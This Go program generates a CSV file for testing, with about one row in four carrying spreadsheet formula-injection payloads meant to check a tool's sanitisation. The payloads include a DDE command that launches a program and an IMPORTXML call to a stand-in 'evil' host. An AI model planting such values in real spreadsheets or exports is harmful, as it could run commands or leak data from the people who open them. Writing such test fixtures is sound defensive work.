package main

import (
	"encoding/csv"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"
)

// payloads are cell values that spreadsheet applications would interpret
// as formulas or commands when opened from an unsanitized CSV.
var payloads = []string{
	"=SUM(A1:A10)",
	"=cmd|'/C calc'!A0",
	"+1234",
	"-42 units",
	"@SUM(A:A)",
	"\t=EXEC()",
	"\r=DATA()",
	"\n=IMPORTXML(\"http://evil\",\"//a\")",
	`he said "hi"`,
	"plain,comma,value",
}

var names = []string{"Alice", "Bob", "Charlie", "Dana", "Eve", "Frank"}

// Generates a CSV mixing benign rows with injection payloads, for manual
// testing of the write and append commands.
func main() {
	var (
		rows   = flag.Int("rows", 1000, "Number of rows to generate")
		output = flag.String("output", "dirty_data.csv", "Output file path")
		seed   = flag.Int64("seed", time.Now().UnixNano(), "Random seed")
	)
	flag.Parse()

	rng := rand.New(rand.NewSource(*seed))

	file, err := os.Create(*output)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error creating file: %v\n", err)
		os.Exit(1)
	}
	defer file.Close()

	writer := csv.NewWriter(file)
	defer writer.Flush()

	if err := writer.Write([]string{"name", "comment", "score"}); err != nil {
		fmt.Fprintf(os.Stderr, "Error writing header: %v\n", err)
		os.Exit(1)
	}

	for i := 0; i < *rows; i++ {
		name := names[rng.Intn(len(names))]
		comment := "ok"
		// Roughly one row in four carries a payload
		if rng.Intn(4) == 0 {
			comment = payloads[rng.Intn(len(payloads))]
		}
		record := []string{name, comment, fmt.Sprintf("%d", rng.Intn(101))}
		if err := writer.Write(record); err != nil {
			fmt.Fprintf(os.Stderr, "Error writing row: %v\n", err)
			os.Exit(1)
		}
	}

	fmt.Printf("Generated %d rows in %s\n", *rows, *output)
}
